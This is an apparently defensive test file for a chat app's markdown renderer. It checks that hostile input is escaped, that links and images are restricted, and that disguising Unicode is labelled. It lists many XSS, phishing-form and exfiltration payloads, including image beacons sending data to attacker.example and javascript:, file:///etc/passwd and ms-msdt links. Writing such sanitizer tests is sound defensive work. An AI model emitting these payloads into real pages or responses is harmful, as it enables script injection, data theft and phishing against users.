import { expect, test } from 'vitest'
import { linkTarget } from '../../../renderer/markdown/policy.ts'
import { words } from '../../support/words.ts'
import { elementsIn, render, renderGroups, streamed } from './support.ts'

/** Everything a text can become, with Atrium's own frame around code, links and refused content. */
const elements = new Set(
  'a bdi blockquote br button code del div em h3 hr img input li ol p path pre rect small span strong sup svg table tbody td th thead tr ul'.split(
    ' ',
  ),
)
const attributes = new Set(
  'alt aria-hidden aria-label aria-pressed checked class data-align data-level data-tip disabled hidden href rel role src start tabindex target title type'.split(
    ' ',
  ),
)
/** Atrium's own buttons. */
const { code, table } = words.markdown
const buttons = new Set<string | undefined>([code.copy, code.wrap, table.copyAsMarkdown, table.copyAsCsv])

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://attacker.example"><input name="password"><button>Sign in</button></form>',
  '<base href="https://attacker.example/">',
  '<style>@import "https://attacker.example/x.css"</style>',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example">',
  '<link rel="stylesheet" href="https://attacker.example">',
  '<a href="https://attacker.example" ping="https://attacker.example/ping">x</a>',
  '<div style="position:fixed;inset:0">Allow this tool?</div>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a id="api" name="api">clobbered</a>',
  '<object data="javascript:alert(1)"></object><embed src="https://attacker.example">',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '![beacon](https://attacker.example/p.png?data=secret)',
  '![beacon][r]\n\n[r]: https://attacker.example/p.png',
  '![x](file:///etc/passwd)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](//attacker.example/p.png)',
  '[x](javascript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](file:///etc/passwd)',
  '[x](ms-msdt:/id)',
  '[x](vscode://extension)',
  '[x](\\\\attacker\\share)',
  '<javascript:alert(1)>',
  '[x]\n\n[x]: javascript:alert(1)',
  '[x](#/settings)',
  '[^a]\n\n[^a]: <img src=x onerror=alert(1)>',
  '```html\n<script>alert(1)</script>\n```',
  '```mermaid\nclick A href "javascript:alert(1)"\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '$$\\href{javascript:alert(1)}{x}$$',
  '$\\htmlId{api}{\\includegraphics{https://attacker.example/p.png}}$',
  '$$\n<img src=x onerror=alert(1)>\n$$',
  '\\[ <script>alert(1)</script> \\]',
  '| <b onclick=alert(1)> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '- [ ] <input type="password" name="api">',
  '# <h1 style="font-size:400px">System</h1>',
]

test.each(hostile)('[CHAT-3] turns %j into text that cannot act, load or name elements', (payload) => {
  for (const markup of [render(payload), renderGroups(streamed(payload, [3, 7, 11, 20, 40]).groups())]) {
    for (const { tag, attributes: own } of elementsIn(markup)) {
      expect(elements, markup).toContain(tag)
      if (tag === 'svg' || tag === 'path' || tag === 'rect') continue
      for (const name of Object.keys(own)) expect(attributes, markup).toContain(name)
      if (tag === 'img') expect(own['src']).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/)
      if (tag === 'a') expect(own['href']).toMatch(/^(https?|mailto):/)
      if (tag === 'input') expect(own).toMatchObject({ type: 'checkbox', disabled: '' })
      if (tag === 'button') expect(buttons, markup).toContain(own['aria-label'])
    }
  }
})

test('[CHAT-3] shows every character of markup in a payload', () => {
  expect(render('<b onclick="alert(1)">hello</b>')).toContain('&lt;b onclick=&quot;alert(1)&quot;&gt;hello&lt;/b&gt;')
  expect(render('<script>\nalert(1)\n</script>')).toContain('&lt;script&gt;\nalert(1)\n&lt;/script&gt;')
})

test('[CHAT-4] shows a link’s host in the form used for the lookup', () => {
  expect(render('[docs](https://example.com/a)')).toContain('(example.com)')
  expect(render('[docs](https://еxample.com/a)')).toContain('(xn--xample-2of.com)')
  expect(render('https://example.com/a')).not.toContain('(example.com)')
  expect(render('[docs](https://example.com)')).toContain('target="_blank" rel="noopener noreferrer nofollow"')
})

test.each([
  ['javascript:alert(1)', 'javascript:'],
  ['file:///etc/passwd', 'file:'],
  ['vscode://x', 'vscode:'],
  ['https://bank.example@attacker.example/', 'attacker.example'],
  [`https://example.com/${'a'.repeat(8000)}`, '2048'],
])('[CHAT-4] blocks the link %.40s and says why', (href, reason) => {
  const target = linkTarget(href)
  expect('blocked' in target && target.blocked).toContain(reason)
})

test('[CHAT-4] shows the path of a link that isn’t a URL, without a link', () => {
  const markup = render('[the page](.playwright-mcp/page%201\u202E.yml) and [a.md](a.md)')
  expect(markup).toContain('.playwright-mcp/page 1')
  expect(markup).toContain('U+202E')
  expect(markup.match(/a\.md/g)).toHaveLength(1)
  expect(elementsIn(markup).map(({ tag }) => tag)).not.toContain('a')
  expect(elementsIn(render('[out](//attacker.example/x)')).map(({ tag }) => tag)).not.toContain('a')
})

test('[CHAT-4] shows an image from another host as a line that names the host', () => {
  const markup = render('![a chart](https://attacker.example/p.png?x=1)')
  expect(markup).toContain('a chart')
  expect(markup).toContain('attacker.example')
  expect(elementsIn(markup).map(({ tag }) => tag)).not.toContain('img')
  expect(render('![dot](data:image/png;base64,iVBORw0KGgo=)')).toContain('<img')
})

test('[CHAT-5] labels characters that disguise the stored text, in prose and in code', () => {
  for (const markup of [render('pay\u202Ecilbup\u200B'), render('```\npay\u202Ecilbup\u200B\n```')]) {
    expect(markup).toContain('U+202E')
    expect(markup).toContain('U+200B')
    expect(markup).not.toMatch(/[\u202E\u200B]/)
  }
  expect(render('👩‍👩‍👧 and no\u00A0break')).toContain('👩‍👩‍👧 and no\u00A0break')
})
